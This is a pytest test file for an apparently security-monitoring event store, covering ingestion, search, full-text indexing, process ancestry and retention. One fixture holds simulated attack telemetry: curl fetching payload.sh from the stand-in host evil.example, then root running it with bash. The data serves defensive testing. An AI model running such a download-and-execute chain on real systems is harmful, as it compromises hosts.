"""Event ingest, search, process ancestry and retention on a real SQLite file."""

from __future__ import annotations

import sqlite3
from pathlib import Path

import pytest

from backplane.schema import Action
from controller.store import InvalidInput, NotFound, SQLiteStore
from controller.store import sqlite as S
from controller.store.sqlite import _FTS_WANTED


def _count(store: SQLiteStore, sql: str = "SELECT count(*) FROM events") -> int:
    return store._writer.execute(sql).fetchone()[0]


def _fts_ok(store: SQLiteStore) -> None:
    # FTS5's own consistency check: raises if a wrong 'delete' (values that differ from
    # those indexed) damaged the index during retention.
    c = store._writer
    c.execute("INSERT INTO events_fts (events_fts) VALUES ('integrity-check')")
    # and every indexed row still stored has exactly one index entry, none left behind
    indexed = c.execute("SELECT count(*) FROM events_fts_docsize").fetchone()[0]
    wanted = c.execute(
        f"SELECT count(*) FROM events WHERE {_FTS_WANTED.format(p='')} AND id <="  # noqa: S608
        " (SELECT value FROM store_state WHERE key = 'fts_watermark')"
    ).fetchone()[0]
    assert indexed == wanted


# -- ingest -------------------------------------------------------------------------------


def test_batch_is_stored_exactly_once(store: SQLiteStore, make_ev, t0: float) -> None:
    batch = [make_ev(Action.EXEC, t0 + i, pid=i) for i in range(50)]
    assert store.ingest_batch("host-a", 7, batch) is True
    for _ in range(5):
        assert store.ingest_batch("host-a", 7, batch) is False
        # a redelivery with different content is still the same batch: nothing is added
        assert store.ingest_batch("host-a", 7, batch[:3]) is False
    assert _count(store) == 50
    # the same seq from another host is a different batch
    assert store.ingest_batch("host-b", 7, batch[:2]) is True
    assert _count(store) == 52
    assert _count(store, "SELECT count(*) FROM batches") == 2


def test_event_document_round_trips(store: SQLiteStore, make_ev, t0: float) -> None:
    e = make_ev(Action.EXEC, t0, cmd="bash -c 'echo hi'", parent=(1, "E1"))
    store.ingest_batch("host-a", 1, [e])
    got = store.search_events().events[0]
    assert got.event == e
    assert got.ts == pytest.approx(t0)
    assert got.host_id == "host-a"
    assert store.get_event(got.id).event == e
    with pytest.raises(NotFound):
        store.get_event(got.id + 1000)


@pytest.mark.parametrize(
    ("args", "match"),
    [
        (("", 1, []), "host_id"),
        (("h\n", 1, []), "control characters"),
        (("h", -1, []), "seq"),
        (("h", True, []), "seq"),
        (("h", 1, {"not": "a list"}), "list of event mappings"),
        (("h", 1, "events"), "list of event mappings"),
        (("h", 1, [{"ok": 1}, "nope"]), "event 1 is a str"),
        (("h", 1, [{"ok": 1}, {"bad": object()}]), "event 1"),
        (("h", 1, [{"nan": float("inf")}, {"x": {1, 2}, "y": object()}]), "event 1"),
    ],
)
def test_bad_batches_are_refused_and_write_nothing(store: SQLiteStore, args, match) -> None:
    with pytest.raises(InvalidInput, match=match):
        store.ingest_batch(*args)
    assert _count(store) == 0
    assert _count(store, "SELECT count(*) FROM batches") == 0
    # the refused seq is still free: a corrected batch goes in
    host = args[0] if isinstance(args[0], str) and args[0].isalnum() else "h"
    assert store.ingest_batch(host, 1, [{"ok": 1}]) is True


def test_bad_dropped_refused(store: SQLiteStore) -> None:
    with pytest.raises(InvalidInput, match="dropped"):
        store.ingest_batch("h", 1, [], dropped=-3)


def test_odd_fields_lose_nothing(store: SQLiteStore, make_ev, t0: float, clock) -> None:
    no_ts = make_ev(Action.EXEC, t0)
    del no_ts["@timestamp"]
    bad_ts = make_ev(Action.EXEC, t0)
    bad_ts["@timestamp"] = "yesterday-ish"
    odd = make_ev(Action.CONNECT, t0, pid="12", dst=("1.2.3.4", 2**70))
    undecodable = make_ev(Action.EXEC, t0, cmd="cat \udcff\udcfe")
    raw_bytes = make_ev(Action.EXEC, t0)
    raw_bytes["process"]["args"] = [b"\xff\x00abc"]
    other_tz = make_ev(Action.EXEC, t0)
    other_tz["@timestamp"] = "2023-11-14T23:13:21+01:00"
    batch = [no_ts, bad_ts, odd, undecodable, raw_bytes, other_tz]
    clock.now = t0 + 500
    assert store.ingest_batch("host-a", 1, batch)
    assert _count(store) == 6
    untimed = store._writer.execute("SELECT untimed FROM batches").fetchone()[0]
    assert untimed == 2
    docs = {e.id: e for e in store.search_events().events}
    assert len(docs) == 6
    stored = sorted(docs.values(), key=lambda e: e.id)
    assert stored[0].ts == pytest.approx(t0 + 500)  # receive time stands in
    assert stored[2].event["destination"]["port"] == 2**70  # kept in the document
    assert stored[3].event["process"]["command_line"] == "cat \udcff\udcfe"  # exact original
    assert stored[4].event["process"]["args"] == [b"\xff\x00abc".decode("utf-8", "surrogateescape")]
    assert stored[5].ts == pytest.approx(1700000001.0)
    # the odd pid is not indexed as a pid, the undecodable command line is searchable
    assert store.search_events(pid=12).events == []
    store.index_pending()
    assert [e.id for e in store.search_events(text="cat").events] == [stored[3].id]


def test_dropped_counts_reach_the_host(store: SQLiteStore, make_ev, t0: float) -> None:
    from controller.store import HostHello

    store.upsert_host("host-a", HostHello("alpha", "Debian 12", "6.18", "0.1.0", {}))
    store.ingest_batch("host-a", 1, [make_ev(Action.EXEC, t0)], dropped=5)
    store.ingest_batch("host-a", 2, [], dropped=2)
    store.ingest_batch("host-a", 2, [], dropped=2)  # duplicate: not counted twice
    assert store.get_host("host-a").events_dropped == 7


# -- search -------------------------------------------------------------------------------


@pytest.fixture
def loaded(store: SQLiteStore, make_ev, t0: float) -> SQLiteStore:
    a = [
        make_ev(
            Action.EXEC,
            t0 + 1,
            pid=10,
            entity="P10",
            exe="/usr/bin/curl",
            cmd="curl -s http://evil.example/payload.sh",
            parent=(1, "P1"),
        ),
        make_ev(
            Action.FILE_WRITE,
            t0 + 2,
            pid=10,
            entity="P10",
            exe="/usr/bin/curl",
            path="/tmp/payload.sh",
        ),
        make_ev(
            Action.CONNECT,
            t0 + 3,
            pid=10,
            entity="P10",
            exe="/usr/bin/curl",
            src=("10.0.0.5", 40000),
            dst=("203.0.113.9", 443),
        ),
        make_ev(
            Action.EXEC,
            t0 + 4,
            pid=11,
            entity="P11",
            exe="/usr/bin/bash",
            cmd="bash /tmp/payload.sh",
            parent=(10, "P10"),
            user="root",
        ),
    ]
    b = [
        make_ev(
            Action.EXEC,
            t0 + 5,
            host="host-b",
            pid=10,
            entity="Q10",
            exe="/usr/bin/ls",
            cmd="ls -la /etc",
        ),
        make_ev(
            Action.CONNECT,
            t0 + 6,
            host="host-b",
            pid=12,
            entity="Q12",
            exe="/usr/sbin/sshd",
            src=("203.0.113.9", 22),
            dst=("10.0.0.7", 51000),
        ),
    ]
    store.ingest_batch("host-a", 1, a)
    store.ingest_batch("host-b", 1, b)
    return store


def _pids(page) -> list[tuple[str, int]]:
    return [(e.host_id, e.event["process"]["pid"]) for e in page.events]


def test_search_each_filter(loaded: SQLiteStore, t0: float) -> None:
    s = loaded
    assert len(s.search_events().events) == 6
    times = [e.ts for e in s.search_events().events]
    assert times == sorted(times, reverse=True)  # newest first
    assert len(s.search_events(since=t0 + 3, until=t0 + 5).events) == 3
    assert _pids(s.search_events(host_id="host-b")) == [("host-b", 12), ("host-b", 10)]
    assert len(s.search_events(action="exec").events) == 3
    assert len(s.search_events(category="network").events) == 2
    assert len(s.search_events(category="file").events) == 1
    assert len(s.search_events(pid=10).events) == 4
    assert len(s.search_events(pid=10, host_id="host-a").events) == 3
    assert len(s.search_events(entity_id="P10").events) == 3
    assert len(s.search_events(executable="/usr/bin/curl").events) == 3
    assert _pids(s.search_events(path="/tmp/payload.sh")) == [("host-a", 10)]
    assert len(s.search_events(ip="203.0.113.9").events) == 2
    assert _pids(s.search_events(ip="10.0.0.7")) == [("host-b", 12)]
    assert len(s.search_events(port=443).events) == 1
    assert len(s.search_events(port=22).events) == 1
    assert s.search_events(port=8080).events == []
    assert len(s.search_events(action="connect", ip="203.0.113.9", host_id="host-a").events) == 1


def test_full_text_is_built_off_the_ingest_path(loaded: SQLiteStore) -> None:
    s = loaded
    assert s.search_events(text="payload").events == []  # not indexed yet
    assert s.pending_index_rows() == 6
    assert s.index_pending(max_rows=4) == 4
    assert s.index_pending() == 2
    assert s.index_pending() == 0
    assert s.pending_index_rows() == 0
    # command lines and file paths
    assert len(s.search_events(text="payload").events) == 3
    assert len(s.search_events(text="evil").events) == 1
    assert len(s.search_events(text='"ls -la"').events) == 1
    assert len(s.search_events(text="payload", action="exec").events) == 2
    assert len(s.search_events(text="payl*", host_id="host-b").events) == 0
    assert len(s.search_events(text="ls").events) == 1  # executables of execs too
    # a network event's process fields repeat its exec's: not indexed again (pivot by
    # entity_id from the exec instead)
    assert s.search_events(text="sshd").events == []
    _fts_ok(s)


def test_bad_full_text_query_is_a_clear_error(loaded: SQLiteStore) -> None:
    loaded.index_pending()
    with pytest.raises(InvalidInput, match="full-text"):
        loaded.search_events(text='"unbalanced')
    with pytest.raises(InvalidInput):
        loaded.search_events(text="   ")


@pytest.mark.parametrize(
    "kwargs",
    [
        {"ip": "not-an-ip"},
        {"port": 70000},
        {"port": "22"},
        {"pid": -1},
        {"limit": 0},
        {"limit": 10**6},
        {"since": float("nan")},
        {"cursor": "garbage!!"},
        {"cursor": "OjE"},
        {"host_id": ""},
    ],
)
def test_bad_search_arguments(loaded: SQLiteStore, kwargs) -> None:
    with pytest.raises(InvalidInput):
        loaded.search_events(**kwargs)


def test_pagination_walks_everything_once(store: SQLiteStore, make_ev, t0: float) -> None:
    # several events share a timestamp: the cursor must break ties by id
    batch = [make_ev(Action.EXEC, t0 + i // 3, pid=i) for i in range(25)]
    store.ingest_batch("host-a", 1, batch)
    seen: list[int] = []
    cursor = None
    pages = 0
    while True:
        page = store.search_events(limit=4, cursor=cursor)
        seen += [e.event["process"]["pid"] for e in page.events]
        pages += 1
        cursor = page.next_cursor
        if cursor is None:
            break
    assert pages == 7
    assert sorted(seen) == list(range(25))
    assert len(seen) == 25
    assert seen == sorted(seen, key=lambda p: (p // 3, p), reverse=True)


# -- process ancestry ---------------------------------------------------------------------


def test_process_tree(store: SQLiteStore, make_ev, t0: float) -> None:
    events = [
        make_ev(Action.EXEC, t0, pid=1, entity="init", exe="/sbin/init"),
        make_ev(Action.FORK, t0 + 1, pid=50, entity="sshd", exe="/sbin/init", parent=(1, "init")),
        make_ev(
            Action.EXEC, t0 + 2, pid=50, entity="sshd", exe="/usr/sbin/sshd", parent=(1, "init")
        ),
        make_ev(
            Action.EXEC, t0 + 3, pid=60, entity="bash", exe="/usr/bin/bash", parent=(50, "sshd")
        ),
        make_ev(
            Action.EXEC,
            t0 + 4,
            pid=70,
            entity="curl",
            exe="/usr/bin/curl",
            cmd="curl x",
            parent=(60, "bash"),
        ),
        make_ev(Action.EXEC, t0 + 5, pid=71, entity="sh", exe="/bin/sh", parent=(60, "bash")),
        make_ev(
            Action.EXIT,
            t0 + 6,
            pid=70,
            entity="curl",
            exe="/usr/bin/curl",
            cmd="curl x",
            parent=(60, "bash"),
            exit_code=3,
        ),
        make_ev(Action.EXEC, t0 + 1, host="host-b", pid=60, entity="bash", exe="/bin/other"),
    ]
    store.ingest_batch("host-a", 1, events[:4])
    store.ingest_batch("host-a", 2, events[4:7])
    store.ingest_batch("host-b", 1, events[7:])
    store.index_pending()
    tree = store.process_tree("host-a", "bash")
    assert tree.process.executable == "/usr/bin/bash"
    assert tree.process.pid == 60 and tree.process.ppid == 50
    assert [a.entity_id for a in tree.ancestors] == ["sshd", "init"]
    assert tree.ancestors[0].executable == "/usr/sbin/sshd"  # exec replaced the forked image
    assert tree.ancestors[0].start == pytest.approx(t0 + 1)  # first seen at fork
    assert [c.entity_id for c in tree.children] == ["curl", "sh"]
    # alert ancestry asks for the chain upwards only
    up = store.process_tree("host-a", "bash", children=False)
    assert (up.process, up.ancestors, up.children) == (tree.process, tree.ancestors, [])
    curl = store.process_tree("host-a", "curl").process
    assert curl.exit == pytest.approx(t0 + 6) and curl.exit_code == 3
    assert curl.command_line == "curl x"
    assert store.process_tree("host-b", "bash").process.executable == "/bin/other"
    with pytest.raises(NotFound):
        store.process_tree("host-a", "nope")
    with pytest.raises(NotFound):
        store.process_tree("host-c", "bash")


def test_process_tree_survives_a_cycle(store: SQLiteStore, make_ev, t0: float) -> None:
    store.ingest_batch(
        "host-a",
        1,
        [
            make_ev(Action.EXEC, t0, pid=2, entity="x", parent=(3, "y")),
            make_ev(Action.EXEC, t0, pid=3, entity="y", parent=(2, "x")),
        ],
    )
    store.index_pending()
    assert [a.entity_id for a in store.process_tree("host-a", "x").ancestors] == ["y"]


def test_process_table_folds_on_its_own_watermark(store: SQLiteStore, make_ev, t0: float) -> None:
    """Full text can run ahead of the process table (the maintenance loop folds processes in
    larger batches); the backlog counts until both have seen every event."""
    store.ingest_batch(
        "host-a",
        1,
        [
            make_ev(Action.EXEC, t0, pid=2, entity="p", exe="/bin/sh"),
            make_ev(Action.EXEC, t0 + 1, pid=3, entity="c", cmd="findme", parent=(2, "p")),
            make_ev(Action.EXIT, t0 + 2, pid=3, entity="c", exit_code=4),
        ],
    )
    assert store.index_pending(processes=False) == 3
    assert len(store.search_events(text="findme").events) == 1
    with pytest.raises(NotFound):
        store.process_tree("host-a", "c")
    assert store.pending_index_rows() == 3
    assert store.fold_processes(max_rows=2) == 2
    assert store.process_tree("host-a", "c").process.exit_code is None
    assert store.pending_index_rows() == 1
    # the default call catches the process table up even when full text has nothing new
    assert store.index_pending() == 1
    assert store.pending_index_rows() == 0
    tree = store.process_tree("host-a", "c")
    assert tree.process.exit_code == 4 and [a.entity_id for a in tree.ancestors] == ["p"]
    assert store.index_pending() == 0 and store.fold_processes() == 0


def test_indexer_reads_only_its_id_range(store: SQLiteStore, make_ev, t0: float) -> None:
    """The indexer's statements walk the new ids, not an index over every stored event (a
    plan on ``events_action_ts`` made each call slower as the table grew)."""
    store.ingest_batch("host-a", 1, [make_ev(Action.EXEC, t0 + i, pid=i) for i in range(50)])
    store._writer.execute("ANALYZE")  # statistics must not tempt the planner either
    # full text runs on the store's writer, the process table on the process file's
    for conn, sql in (
        (store._writer, S._FTS_INSERT),
        (store._proc, S._STUB_PROCESSES),
        (store._proc, S._UPSERT_PROCESSES),
    ):
        assert conn is not None
        plan = [r[-1] for r in conn.execute(f"EXPLAIN QUERY PLAN {sql}", (0, 10))]
        assert plan == ["SEARCH events USING INTEGER PRIMARY KEY (rowid>? AND rowid<?)"], sql


# -- retention ----------------------------------------------------------------------------


def test_retention_by_age(store: SQLiteStore, make_ev, t0: float) -> None:
    old = [make_ev(Action.EXEC, t0 - 10 * 86400 + i, pid=i, entity=f"O{i}") for i in range(30)]
    new = [make_ev(Action.EXEC, t0 - 3600 + i, pid=100 + i, entity=f"N{i}") for i in range(20)]
    store.ingest_batch("host-a", 1, old + new[:10])
    store.index_pending()  # half indexed, half not: both kinds get deleted correctly
    store.ingest_batch("host-a", 2, new[10:])
    before = store.event_bytes()
    res = store.apply_retention(max_age=7 * 86400, now=t0)
    assert res.events_deleted == 30
    assert res.bytes_deleted > 0
    assert store.event_bytes() == before - res.bytes_deleted
    assert res.oldest_remaining == pytest.approx(t0 - 3600)
    assert res.processes_deleted == 30
    assert len(store.search_events(limit=100).events) == 20
    store.index_pending()
    _fts_ok(store)
    assert len(store.search_events(text="true").events) == 20
    assert store.apply_retention(max_age=7 * 86400, now=t0).events_deleted == 0
    # batch ids are kept: a redelivered old batch is still a duplicate
    assert store.ingest_batch("host-a", 1, old) is False


def test_retention_by_size(store: SQLiteStore, make_ev, t0: float) -> None:
    batch = [make_ev(Action.EXEC, t0 + i, pid=i, cmd="x" * 200) for i in range(100)]
    store.ingest_batch("host-a", 1, batch)
    store.index_pending()
    total = store.event_bytes()
    per = total // 100
    res = store.apply_retention(max_bytes=total // 2, now=t0)
    assert store.event_bytes() <= total // 2
    assert 45 <= res.events_deleted <= 55
    remaining = [e.event["process"]["pid"] for e in store.search_events(limit=1000).events]
    # the oldest went first
    assert min(remaining) == res.events_deleted and max(remaining) == 99
    assert store.event_bytes() > total // 2 - 2 * per
    _fts_ok(store)
    assert store.apply_retention(max_bytes=0).events_deleted == len(remaining)
    assert store.event_bytes() == 0
    _fts_ok(store)


def test_retention_bad_arguments(store: SQLiteStore) -> None:
    with pytest.raises(InvalidInput):
        store.apply_retention(max_age=-1)
    with pytest.raises(InvalidInput):
        store.apply_retention(max_bytes=-1)
    with pytest.raises(InvalidInput):
        store.apply_retention(max_age="week")  # type: ignore[arg-type]


def test_ingest_writes_through_to_other_connections(store: SQLiteStore, make_ev, t0, db_path):
    store.ingest_batch("host-a", 1, [make_ev(Action.EXEC, t0)])
    with sqlite3.connect(db_path) as c:
        assert c.execute("SELECT count(*) FROM events").fetchone()[0] == 1


def test_absurd_but_finite_times_are_refused_not_overflowed(tmp_path: Path) -> None:
    store = SQLiteStore(tmp_path / "s.db")
    try:
        for bad in (1e308, -1e308, 1e12):
            with pytest.raises(InvalidInput, match="within"):
                store.search_events(until=bad)
            with pytest.raises(InvalidInput, match="within"):
                store.search_events(since=bad)
    finally:
        store.close()
